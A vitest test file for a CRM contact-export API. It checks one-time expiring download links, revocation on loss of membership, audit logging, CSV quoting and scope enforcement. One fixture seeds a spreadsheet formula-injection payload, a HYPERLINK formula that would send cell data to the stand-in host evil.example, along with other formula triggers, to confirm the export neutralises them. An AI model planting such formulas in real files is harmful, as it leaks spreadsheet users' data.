// Exports: links that open a file of contacts once, and what the file contains.

import { setTimeout as sleep } from 'node:timers/promises'
import { describe, expect, test } from 'vitest'
import { openApp } from '../support/app.ts'

const exportsPath = '/api/crm/v1/exports'

const app = await openApp()

async function organizationWith(contacts: Record<string, unknown>[]) {
  const owner = await app.given.apiKey()
  if (contacts.length > 0) {
    const { body } = await app.rest('POST', '/api/crm/v1/contacts/batch', { key: owner.key, body: { contacts } })
    expect(body.failed).toBe(0)
  }
  return owner
}

const link = async (key: string, query = '', body?: unknown) => {
  const answer = await app.rest('POST', exportsPath + query, { key, ...(body !== undefined && { body }) })
  expect(answer.status).toBe(201)
  return answer.body as { url: string; file_name: string; expires_at: string }
}
const download = (url: string) => fetch(url, { headers: { connection: 'close' } })
// `text()` would drop a byte order mark.
const fileOf = async (key: string, query = '', body?: unknown) =>
  Buffer.from(await (await download((await link(key, query, body)).url)).arrayBuffer()).toString()

describe('POST /api/crm/v1/exports', () => {
  test('makes a link that a browser downloads once, without a credential, within 60 seconds', async () => {
    const { key } = await organizationWith([{ email: 'ada@example.com', first_name: 'Ada', last_name: 'Lovelace' }])
    app.setNow(new Date('2026-05-31T12:00:00Z'))
    try {
      const made = await link(key, '', { columns: ['email', 'first_name', 'last_name'] })
      expect(made).toEqual({
        url: expect.stringMatching(new RegExp(`^${app.url}${exportsPath}/[\\w-]{43}$`)),
        file_name: 'contacts-2026-05-31.csv',
        expires_at: '2026-05-31T12:01:00.000Z',
      })

      const head = await fetch(made.url, { method: 'HEAD' })
      const first = await download(made.url)
      const second = await download(made.url)

      expect(head.status).toBe(405)
      expect(Object.fromEntries(first.headers)).toMatchObject({
        'content-type': 'text/csv; charset=utf-8',
        'content-disposition': 'attachment; filename="contacts-2026-05-31.csv"',
        'x-content-type-options': 'nosniff',
        'cache-control': 'no-store',
      })
      expect(await first.text()).toBe('email,first_name,last_name\r\nada@example.com,Ada,Lovelace\r\n')
      expect([second.status, (await second.json()).code]).toEqual([404, 'not_found'])

      const late = await link(key)
      app.setNow(new Date('2026-05-31T12:01:00Z'))
      expect((await download(late.url)).status).toBe(404)
    } finally {
      app.setNow(null)
    }
  })

  test('of two requests for a link at once, one gets the file', async () => {
    const { key } = await organizationWith([])
    const { url } = await link(key)

    const statuses = await Promise.all([1, 2, 3, 4].map(async () => (await download(url)).status))

    expect(statuses.toSorted()).toEqual([200, 404, 404, 404])
  })

  test('a link ends with the membership, the role or the key of its maker', async () => {
    const { session: owner, orgId } = await app.given.session()
    const { session, userId } = await app.given.member({ orgId, role: 'member' })
    const { key, id: keyId } = await app.given.apiKey({ orgId, userId })
    const linkOf = async (credential: { session: string } | { key: string }) =>
      (await app.rest('POST', exportsPath, { body: {}, ...credential })).body.url as string
    const opened = async (url: string) => {
      const answer = await download(url)
      return [answer.status, answer.status === 200 ? null : (await answer.json()).detail]
    }
    const ended = [404, 'The link ended with the permission of its maker, who may no longer read this']
    const { pool } = app.services.database
    const links = await Promise.all([1, 2].map(() => Promise.all([linkOf({ session }), linkOf({ key })])))

    await pool.query(`update api_keys set scopes = '{calls:read}' where id = $1`, [keyId])
    expect(await opened(links[0]?.[1] ?? '')).toEqual(ended)
    await app.graphql(`mutation { removeMember(input: { userId: "${userId}" }) { id } }`, undefined, { session: owner })
    expect(await Promise.all([links[0]?.[0], ...(links[1] ?? [])].map(url => opened(url ?? '')))).toEqual([ended, ended, ended])
    expect(await opened(await linkOf({ session: owner }))).toEqual([200, null])
  })

  test('a download breaks off when its maker leaves the organization', async () => {
    const { session: owner, orgId } = await app.given.session()
    const { session, userId } = await app.given.member({ orgId, role: 'member' })
    // Far more than fits into the buffers between the server and a client that does not read.
    await app.services.database.pool.query(
      `insert into contacts (id, org_id, email, full_name, job_title, lifecycle_stage, source, search_text, created_by_type, created_at, updated_at)
       select gen_random_uuid(), $1, 'c' || n || '@example.com', repeat('n', 300), repeat('t', 200), 'lead', 'api', '', 'system', now(), now()
       from generate_series(1, 30000) n`,
      [orgId],
    )
    const { body } = await app.rest('POST', exportsPath, { session, body: {} })
    const reader = (await download(body.url)).body?.getReader()
    await reader?.read()
    // The server has filled the buffers.
    await sleep(500)

    await app.graphql('mutation ($id: ID!) { removeMember(input: { userId: $id }) { id } }', { id: userId }, { session: owner })
    const rest = (async () => {
      while (!(await reader?.read())?.done);
    })()

    await expect(rest).rejects.toThrow()
  })

  test('stores and logs no token, and records who made and who used a link', async () => {
    const { key, orgId, id } = await organizationWith([])
    const { url } = await link(key, '', { columns: ['email'] })
    const token = url.slice(url.lastIndexOf('/') + 1)
    await (await download(url)).text()

    const rows = await app.services.database.prisma.download.findMany({ where: { orgId } })
    const events = await app.services.database.pool.query(
      'select type, actor_type, actor_id, changes from events where org_id = $1 and entity = $2 order by sequence',
      [orgId, 'contact_export'],
    )
    expect(JSON.stringify(rows)).not.toContain(token)
    expect(app.log.join()).not.toContain(token)
    expect(events.rows).toEqual([
      {
        type: 'contact_export.created',
        actor_type: 'api_key',
        actor_id: id,
        changes: { kind: 'contact_export', columns: ['email'] },
      },
      { type: 'contact_export.downloaded', actor_type: 'api_key', actor_id: id, changes: { kind: 'contact_export' } },
    ])
  })

  test('defuses formulas, quotes what needs quotes, and begins with a byte order mark where asked', async () => {
    const { key } = await organizationWith([
      {
        email: 'eve@example.com',
        first_name: '=HYPERLINK("http://evil.example/?"&A1)',
        last_name: '@SUM(1)',
        phone: '+442079460958',
        job_title: '-2+3',
        company_name: 'Say "hi", Inc.;',
        city: 'two\nlines',
        region: '＝1',
        tags: ['a', 'b'],
        do_not_call: true,
      },
    ])
    const columns = ['first_name', 'last_name', 'phone', 'job_title', 'company_name', 'city', 'region', 'tags', 'do_not_call', 'timezone']

    expect(await fileOf(key, '', { columns, byte_order_mark: true })).toBe(
      `\ufeff${columns.join(',')}\r\n"'=HYPERLINK(""http://evil.example/?""&A1)",'@SUM(1),'+442079460958,'-2+3,"Say ""hi"", Inc.;","two\nlines",'＝1,"a;b",true,\r\n`,
    )
  })

  test('has the contacts of the list with the same query, custom fields included, and only its organization', async () => {
    const { key } = await organizationWith([
      { email: 'b@example.com', lifecycle_stage: 'customer' },
      { email: 'a@example.com', lifecycle_stage: 'customer' },
      { email: 'c@example.com', lifecycle_stage: 'lead' },
    ])
    const field = 'mutation { createCustomField(input: { key: "plan", label: "Plan", type: TEXT }) { id } }'
    await app.graphql(field, undefined, { key })
    await app.rest('PUT', '/api/crm/v1/contacts?match=email', { key, body: { email: 'a@example.com', custom: { plan: 'pro' } } })
    const stranger = await organizationWith([{ email: 'z@example.com', lifecycle_stage: 'customer' }])

    expect(await fileOf(key, '?lifecycle_stage=customer&sort=email', { columns: ['email', 'custom.plan'] })).toBe(
      'email,custom.plan\r\na@example.com,pro\r\nb@example.com,\r\n',
    )
    expect(await fileOf(stranger.key, '?created_since=2020-01-01T00:00:00Z', { columns: ['email'] })).toBe('email\r\nz@example.com\r\n')
    const found = await app.rest('GET', '/api/crm/v1/contacts?sort=email', { key })
    const ids = found.body.data.slice(1).map(({ id }: { id: string }) => id)
    const chosen = await fileOf(key, '?sort=email', { columns: ['email'], ids: [...ids, 'none'] })
    expect(chosen).toBe('email\r\nb@example.com\r\nc@example.com\r\n')
    expect(await fileOf(stranger.key, '', { columns: ['email'], ids })).toBe('email\r\n')
    const [header] = (await fileOf(key)).split('\r\n')
    expect(header).toMatch(/^id,email,first_name,.*,version,custom\.plan$/)
  })

  test.each([
    [['Bonn, old town']],
    [['a;b', 'c']],
    [['say "x"', '"quoted"', '6" pipe']],
    [['a ::: b', 'x']],
    [["'=1+1", '=2']],
    [['vip', 'new']],
    [['one;two,three']],
  ])('tags are the same after an export and an import: %j', async tags => {
    const { key } = await organizationWith([{ email: 'ada@example.com', first_name: "'=Ada", tags }])
    const file = await fileOf(key, '', { columns: ['email', 'first_name', 'tags'] })
    const other = await app.given.apiKey()

    const sent = await fetch(`${app.url}/api/crm/v1/imports`, {
      method: 'POST',
      headers: { authorization: `Bearer ${other.key}`, 'content-type': 'text/csv' },
      body: file,
    })
    const { id } = (await sent.json()) as { id: string }
    const { body } = await app.rest('POST', `/api/crm/v1/imports/${id}/preview`, { key: other.key })

    expect(body.rows[0].contact).toEqual({ email: 'ada@example.com', first_name: "'=Ada", tags })
  })

  test('writes more contacts than one page of the database, each once', async () => {
    const { key, orgId } = await organizationWith([])
    await app.services.database.pool.query(
      `insert into contacts (id, org_id, email, search_text, source, created_by_type, created_at)
       select gen_random_uuid(), $1, 'many' || n || '@example.com', '', 'api', 'system', now() - (n % 7) * interval '1 second'
       from generate_series(1, 2500) n`,
      [orgId],
    )

    for (const sort of ['created_at', '-created_at', 'email', 'last_name']) {
      const lines = (await fileOf(key, `?sort=${sort}`, { columns: ['email'] })).trimEnd().split('\r\n')
      expect(new Set(lines).size).toBe(2501)
      expect(lines.length).toBe(2501)
    }
  })

  test('refuses unknown columns, guests and credentials without the scope', async () => {
    const { key, orgId } = await organizationWith([])
    const writer = await app.given.apiKey({ orgId, scopes: ['contacts:write'] })

    const invalid = await app.rest('POST', exportsPath, { key, body: { columns: ['email', 'org_id', 'custom.nope'] } })
    const guest = await app.rest('POST', exportsPath, { headers: { 'x-guest-id': 'g' } })
    const forbidden = await app.rest('POST', exportsPath, { key: writer.key })
    const unknown = await app.rest('GET', `${exportsPath}/nothing`)

    expect(invalid.status).toBe(422)
    expect(invalid.body.detail.map(({ loc }: { loc: string[] }) => loc)).toEqual([
      ['body', 'columns', '1'],
      ['body', 'columns', '2'],
    ])
    expect([guest.status, forbidden.status, unknown.status]).toEqual([403, 403, 404])
  })

  test('a repeated request with an Idempotency-Key answers with the same link, which is stored encrypted', async () => {
    const { key, orgId } = await organizationWith([])
    const ask = () => app.rest('POST', exportsPath, { key, headers: { 'idempotency-key': 'export-1' } })

    const [first, second] = [await ask(), await ask()]

    expect(second.body).toEqual(first.body)
    expect(await app.services.database.prisma.download.count({ where: { orgId } })).toBe(1)
    const answers = await app.services.database.pool.query('select answer::text from idempotency_keys')
    expect(JSON.stringify(answers.rows)).not.toContain(first.body.url)
  })
})
